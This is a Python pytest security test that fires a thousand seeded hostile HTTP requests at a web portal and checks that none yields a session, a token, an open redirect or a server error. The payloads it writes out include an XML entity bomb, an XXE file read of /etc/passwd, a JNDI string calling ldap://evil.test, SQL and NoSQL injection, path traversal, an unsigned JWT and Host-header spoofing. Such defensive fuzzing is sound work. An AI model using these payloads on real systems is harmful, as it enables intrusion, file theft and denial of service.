"""Hostile requests on the running product, `make prove` a thousand: none gets in, none makes it fall over."""

import json
import random
from base64 import urlsafe_b64encode
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPConnection
from types import MappingProxyType
from typing import Any, NamedTuple
from urllib.parse import quote

import httpx
import pytest

from chalicelib.pages.frame.journeys import Journey
from tests.conftest import Stack
from tests.journeys.conftest import Operator, log_in

HOSTILE, ALL_HOSTILE = 250, 1000
SERVER_ERROR = 500
EVIL = "evil.test"
PAGES = (
    "/",
    "/account",
    "/dossier",
    "/invoices",
    "/security",
    "/staff/registrations",
    "/staff/people",
    "/staff/audit",
)
CLOSED = (
    ("GET", "/api/v1/me"),
    ("GET", "/api/v1/account"),
    ("GET", "/api/v1/registrations"),
    ("GET", "/api/v1/staff/registrations"),
    ("GET", "/api/v1/staff/people"),
    ("GET", "/api/v1/auth/sessions"),
    ("DELETE", "/api/v1/auth/sessions/current"),
    ("POST", "/api/v1/auth/second-factor"),
)
BOMB = (
    '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY a{n} "{("&a" + (str(n - 1) if n else "") + ";") * 10}">' for n in range(1, 9))
    + ']><samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">'
    "<samlp:SessionIndex>&a8;</samlp:SessionIndex></samlp:LogoutRequest>"
)
FILE_THIEF = (
    '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    '<samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">'
    "<samlp:SessionIndex>&f;</samlp:SessionIndex></samlp:LogoutRequest>"
)


class Hostile(NamedTuple):
    """One request; `is_open` says that its address answers strangers, though never with a way in."""

    kind: str
    method: str
    path: str
    headers: Mapping[str, str] = MappingProxyType({})
    body: bytes = b""
    is_open: bool = False


Maker = Callable[[random.Random], Hostile]


def junk(chance: random.Random) -> str:
    """Something that somebody could mistake for a secret of ours."""
    return chance.choice(
        (
            _b64(chance.randbytes(32)),
            "0" * 64,
            "null",
            "undefined",
            "' OR '1'='1",
            "../../../../etc/passwd",
            "${jndi:ldap://evil.test/a}",
            "%00",
            "A" * 5000,
            _UNSIGNED,
            "é€😀".encode().decode("latin-1"),
        )
    )


def _b64(raw: bytes) -> str:
    return urlsafe_b64encode(raw).decode().rstrip("=")


_UNSIGNED = ".".join((_b64(b'{"alg": "none"}'), _b64(b'{"sub": "admin"}'), ""))


def forged_cookie(chance: random.Random) -> Hostile:
    name = chance.choice(("quittance", "__Host-quittance", "quittance-visitor", "quittance-cas", "session"))
    cookies = "; ".join(f"{name}={junk(chance)}" for _ in range(chance.choice((1, 1, 2, 40))))
    if len(cookies) > 7000:
        cookies = cookies[:7000]
    return Hostile("cookie", "GET", chance.choice(PAGES), {"Cookie": cookies})


def forged_token(chance: random.Random) -> Hostile:
    method, path = chance.choice(CLOSED)
    scheme = chance.choice(("Bearer", "bearer", "Basic", "Bearer Bearer", "Token", ""))
    return Hostile("token", method, path, {"Authorization": f"{scheme} {junk(chance)}"})


def forged_link(chance: random.Random) -> Hostile:
    token = junk(chance)
    if chance.random() < 0.5:
        return Hostile("link", "GET", f"/password?token={quote(token)}", is_open=True)
    return _json("link", "/api/v1/auth/password", {"token": token, "password": "a new long phrase"})


def forged_ticket(chance: random.Random) -> Hostile:
    ticket = chance.choice((f"ST-{junk(chance)}", junk(chance), "", "ST-1&renew=false", "ST-1\r\nX: y"))
    journey = chance.choice(("0..", "1..", "0..deadbeef./security", "0.x.deadbeef./", "x", ""))
    word = chance.choice(("deadbeef", junk(chance), ""))
    headers = {"Cookie": f"{Journey(False, '/', word).name}={journey}"} if journey else {}  # noqa: FBT003 - no renewal
    query = f"journey={quote(word)}&ticket={quote(ticket)}"
    return Hostile("ticket", "GET", f"/api/v1/auth/cas/callback?{query}", headers)


def xml_bomb(chance: random.Random) -> Hostile:
    xml = chance.choice((BOMB, FILE_THIEF, "<a>" * 2000, "\x00", "<samlp:LogoutRequest/>", BOMB * 20))
    body = f"logoutRequest={quote(xml)}".encode()
    return Hostile("xml", "POST", "/api/v1/auth/cas/callback", FORM, body, is_open=True)


def foreign_host(chance: random.Random) -> Hostile:
    headers = {
        "Host": chance.choice((EVIL, f"{EVIL}:80", "127.0.0.1@evil.test", "")),
        "X-Forwarded-Host": EVIL,
        "X-Forwarded-For": f"203.0.113.{chance.randrange(256)}",
        "Forwarded": f"host={EVIL}",
        "X-Original-URL": "/staff/people",
    }
    path = chance.choice(("/api/v1/auth/password-reset", "/api/v1/auth/first-connection"))
    email = chance.choice(("polytech@demo.test", f"nobody@{EVIL}"))
    hostile = _json("host", path, {"email": email})
    return hostile._replace(headers={**hostile.headers, **headers}, is_open=True)


def oversized(chance: random.Random) -> Hostile:
    size = chance.choice((17, 64, 512, 11 * 1024)) * 1024
    if chance.random() < 0.5:
        return _json("size", "/api/v1/auth/sessions", {"email": "a" * size, "password": "x"})
    return Hostile("size", "POST", "/login", FORM, b"email=" + b"a" * size)


def malformed(chance: random.Random) -> Hostile:
    body = chance.choice(
        (
            b"{",
            b"[" * 20_000,
            b'{"email": NaN}',
            b'{"email": 1e999, "password": []}',
            b"\xff\xfe\x00",
            b'{"email": "a@b.test", "password": "x", "roles": ["administrator"]}',
            b'{"email": {"$ne": null}, "password": {"$ne": null}}',
            b'{"email": "\\ud800", "password": "x"}',
            b'{"email": "student@demo.test\\u0000", "password": "quittance-demo"}',
            b"null",
            b"",
        )
    )
    kind = chance.choice(
        ("application/json", "application/json; charset=utf-16", "text/xml", "multipart/form-data")
    )
    path = chance.choice(("/api/v1/auth/sessions", "/api/v1/auth/password", "/api/v1/auth/password-reset"))
    return Hostile("form", "POST", path, {"Content-Type": kind}, body)


def odd_address(chance: random.Random) -> Hostile:
    path = chance.choice(
        (
            "/static/../../settings.py",
            "/static/%2e%2e%2fapp.py",
            "/%00",
            "/api/v1/registrations/%2e%2e%2f%2e%2e/quote",
            f"/api/v1/registrations/{'9' * 3000}",
            "/staff/people/%3Cscript%3E",
            "/api/v1/staff/audit?subject=%27%20OR%201",
            "/login?next=https://evil.test/",
            "/login?next=//evil.test",
            "/api/v1/auth/cas?next=https://evil.test",
        )
    )
    return Hostile("address", chance.choice(("GET", "POST", "PUT", "TRACE", "OPTIONS")), path, is_open=True)


def guessed_password(chance: random.Random) -> Hostile:
    email = chance.choice(("student@demo.test", "admin@demo.test", f"{junk(chance)[:200]}@demo.test"))
    return _json("guess", "/api/v1/auth/sessions", {"email": email, "password": junk(chance)[:128] or "x"})


FORM = {"Content-Type": "application/x-www-form-urlencoded"}
MAKERS: tuple[Maker, ...] = (
    forged_cookie,
    forged_token,
    forged_link,
    forged_ticket,
    xml_bomb,
    foreign_host,
    oversized,
    malformed,
    odd_address,
    guessed_password,
)


def _json(kind: str, path: str, body: dict[str, Any]) -> Hostile:
    return Hostile(kind, "POST", path, {"Content-Type": "application/json"}, json.dumps(body).encode())


def hostile_requests(many: int) -> Iterator[Hostile]:
    chance = random.Random(4)  # noqa: S311 - the same each time
    return (MAKERS[number % len(MAKERS)](chance) for number in range(many))


def sent(portal: str, hostile: Hostile) -> httpx.Response:
    """Send it as it is: a polite client would refuse to."""
    line = HTTPConnection(portal.removeprefix("http://"), timeout=60)
    try:
        line.putrequest(hostile.method, hostile.path, skip_host="Host" in hostile.headers)
        for name, value in {**hostile.headers, "Content-Length": str(len(hostile.body))}.items():
            line.putheader(name, value.encode())
        line.endheaders(hostile.body)
        answer = line.getresponse()
        return httpx.Response(answer.status, headers=answer.getheaders(), content=answer.read())
    finally:
        line.close()


def way_in(hostile: Hostile, answer: httpx.Response) -> str:
    """Say what of an answer lets a stranger in, "" for nothing."""
    given = [cookie.partition(";")[0].partition("=") for cookie in answer.headers.get_list("set-cookie")]
    if any(name in {"quittance", "__Host-quittance"} and value for name, _, value in given):
        return "a session cookie"
    if '"token":' in answer.text:
        return "a token"
    if EVIL in answer.headers.get("location", ""):
        return "a way to a stranger's site"
    goes_to_login = answer.is_redirect and "/login" in answer.headers["location"]
    if not hostile.is_open and not (answer.is_client_error or goes_to_login):
        return f"an answer {answer.status_code}"
    return ""


@pytest.mark.parametrize("many", [HOSTILE, pytest.param(ALL_HOSTILE, marks=pytest.mark.prove)])
def test_hostile_requests_get_no_5xx_and_no_entry(stack: Stack, operator: Operator, many: int) -> None:
    victim = log_in(stack, "prepa@demo.test")
    with ThreadPoolExecutor(8) as strangers:
        done = list(strangers.map(lambda each: (each, sent(stack.portal, each)), hostile_requests(many)))
    assert len(done) == many
    fell_over = [
        (each[:3], answer.status_code) for each, answer in done if answer.status_code >= SERVER_ERROR
    ]
    assert fell_over == []
    assert [(each[:3], what) for each, answer in done if (what := way_in(each, answer))] == []
    assert Counter(each.kind for each, _ in done).total() == many
    assert victim.get("/me").is_success, "and nobody else's session ended"
    operator.runs("publish_outbox")
    assert all(EVIL not in mail["text"] and EVIL not in mail["to"] for mail in operator.mails())


@pytest.mark.parametrize("make", MAKERS, ids=lambda make: make.__name__)
def test_each_kind_of_hostile_request_would_be_noticed(make: Maker) -> None:
    """The judge is no blind one: a session, a token or an open door in the answer is named."""
    hostile = make(random.Random(4))._replace(is_open=False)  # noqa: S311 - the same each time
    assert way_in(hostile, httpx.Response(200)) != ""
    cookie = httpx.Response(302, headers={"set-cookie": "quittance=abc; Path=/", "location": "/login"})
    assert way_in(hostile, cookie) == "a session cookie"
    assert way_in(hostile, httpx.Response(401, text='{"token": "abc"}')) == "a token"
